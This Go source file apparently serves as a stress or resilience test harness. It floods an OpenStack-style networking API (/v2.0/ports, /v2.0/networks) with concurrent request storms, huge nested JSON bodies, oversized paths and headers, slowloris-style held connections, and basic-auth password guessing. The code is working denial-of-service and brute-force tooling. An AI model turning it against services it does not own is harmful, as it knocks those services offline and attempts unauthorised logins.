package main

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"time"
)

// attack loads the API at the address until ctx ends.
func attack(ctx context.Context, name, address string) error {
	kinds := map[string]func(context.Context, *url.URL){
		"lists":      asking(64, request{path: "/v2.0/ports", headers: []string{"X-Project-Id", projectName(fullProject), "X-Roles", "member"}}),
		"long-lists": asking(32, request{path: "/v2.0/ports", headers: []string{"X-Project-Id", "greedy"}}),
		"bodies": asking(32, request{path: "/v2.0/networks", headers: []string{"X-Project-Id", "greedy"},
			body: `{"networks":[` + strings.Repeat(`{"nome":{"a":[1]}},`, 200_000) + `{}]}`}),
		"promises": holding(8000, "POST /v2.0/networks HTTP/1.1\r\nHost: x\r\nX-Project-Id: greedy\r\nContent-Length: 4000000\r\n\r\n{"),
		"paths": asking(16, request{path: "/v2.0/networks/" + strings.Repeat("x", 900<<10)},
			request{path: "/v2.0/networks", headers: []string{"X-Openstack-Request-Id", "req-" + strings.Repeat("y", 300<<10)}}),
		"passwords": guessing(64),
		"idle":      holding(80, ""),
	}
	u, err := url.Parse(address)
	if err != nil {
		return err
	}
	kind := kinds[name]
	if kind == nil {
		return fmt.Errorf("there is no attack %q", name)
	}
	kind(ctx, u)
	return nil
}

// request is what an attacker asks for.
type request struct {
	path    string
	headers []string
	body    string
}

func (r request) send(ctx context.Context, client *http.Client, to *url.URL) {
	method := http.MethodGet
	if r.body != "" {
		method = http.MethodPost
	}
	q, err := http.NewRequestWithContext(ctx, method, to.String()+r.path, strings.NewReader(r.body))
	if err != nil {
		return
	}
	for i := 0; i+1 < len(r.headers); i += 2 {
		q.Header.Set(r.headers[i], r.headers[i+1])
	}
	a, err := client.Do(q)
	if err != nil {
		return // refusals are what an attacker gets
	}
	_, _ = io.Copy(io.Discard, a.Body)
	_ = a.Body.Close()
}

// repeatedly calls f from so many goroutines until ctx ends.
func repeatedly(ctx context.Context, clients int, f func(client, turn int)) {
	var wait sync.WaitGroup
	for i := range clients {
		wait.Go(func() {
			for turn := 0; ctx.Err() == nil; turn++ {
				f(i, turn)
			}
		})
	}
	wait.Wait()
}

func asking(clients int, requests ...request) func(context.Context, *url.URL) {
	return func(ctx context.Context, to *url.URL) {
		client := &http.Client{Transport: &http.Transport{MaxIdleConnsPerHost: clients}}
		repeatedly(ctx, clients, func(i, turn int) { requests[(i+turn)%len(requests)].send(ctx, client, to) })
	}
}

func guessing(clients int) func(context.Context, *url.URL) {
	return func(ctx context.Context, to *url.URL) {
		client := &http.Client{Transport: &http.Transport{MaxIdleConnsPerHost: clients}}
		repeatedly(ctx, clients, func(i, turn int) {
			r, err := http.NewRequestWithContext(ctx, http.MethodGet, to.String()+"/v2.0/networks", nil)
			if err != nil {
				return
			}
			r.SetBasicAuth("operator", fmt.Sprintf("wrong-%d-%d", i, turn))
			if a, err := client.Do(r); err == nil {
				_, _ = io.Copy(io.Discard, a.Body)
				_ = a.Body.Close()
			}
		})
	}
}

// holding holds connections on which it has sent a text, and opens those again that
// are closed.
func holding(connections int, text string) func(context.Context, *url.URL) {
	return func(ctx context.Context, to *url.URL) {
		var d net.Dialer
		repeatedly(ctx, connections, func(int, int) {
			c, err := d.DialContext(ctx, "tcp", to.Host)
			if err != nil {
				time.Sleep(10 * time.Millisecond) // the server's queue is full
				return
			}
			stop := context.AfterFunc(ctx, func() { _ = c.Close() })
			defer stop()
			_, _ = io.WriteString(c, text)
			_, _ = io.Copy(io.Discard, c)
			_ = c.Close()
		})
	}
}
